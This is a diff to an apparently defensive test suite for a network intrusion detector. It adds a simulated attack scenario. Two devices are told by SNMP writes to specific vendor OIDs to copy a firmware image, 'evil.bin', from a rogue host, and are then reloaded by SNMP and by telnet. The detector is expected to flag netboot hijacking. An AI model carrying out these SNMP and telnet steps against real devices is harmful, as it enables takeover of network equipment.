@@ -327,3 +327,40 @@ def bw30_leased_elsewhere(wire: Wire) -> None:
     client.reply(ROGUE, OFFER, boot, yiaddr="10.0.6.100", siaddr=ROGUE, file=b"evil.efi")
     client.lease("10.0.0.2", [(3, addresses("10.0.4.254"))])
     tftp.read(wire, PC, ROGUE, "evil.efi", efi(3000), offer={"tsize": 0, "blksize": 1468})
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    raises=[
+        ("BW04", 2, ATTACKER, "10.0.1.14"),
+        ("BW04", 2, ATTACKER, "10.0.1.15"),
+        ("BW05", 1, ATTACKER, "10.0.1.14"),
+        ("BW05", 3, ATTACKER, "10.0.1.15"),
+        ("BW30", 1, ATTACKER, "10.0.1.14"),
+        ("BW30", 2, ATTACKER, "10.0.1.15"),
+    ],
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("SNMP_Image_Copy", "10.0.1.14", "10.0.6.66", "evil.bin"),
+            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.bin"),
+            Notice("Remote_Reload", "10.0.1.14"),
+            Notice("Netboot_Hijack", "10.0.1.14"),
+            Notice("Remote_Reload", "10.0.1.15"),
+            Notice("Netboot_Hijack", "10.0.1.15"),
+        )
+    ),
+)
+def bw30_reload_last(wire: Wire) -> None:
+    """Two devices are redirected by SNMP; an hour later one is reloaded by SNMP, the other by telnet."""
+    columns = {2: 3, 3: IPv4Address(ROGUE), 4: "evil.bin", 5: 4}
+    for device in ("10.0.1.14", "10.0.1.15"):
+        snmp.Manager(wire, ATTACKER, device).set(*snmp.row("1.3.6.1.4.1.1991.1.1.2.4.1.1", 1, columns))
+    wire.wait(3600)
+    snmp.Manager(wire, ATTACKER, "10.0.1.14").set(("1.3.6.1.4.1.1991.1.1.2.1.1.0", 3))
+    session = Telnet(wire, ATTACKER, "10.0.1.15")
+    session.login()
+    session.typed("reload", "Are you sure?", prompt="")
+    session.typed("y", "")
+    session.close()
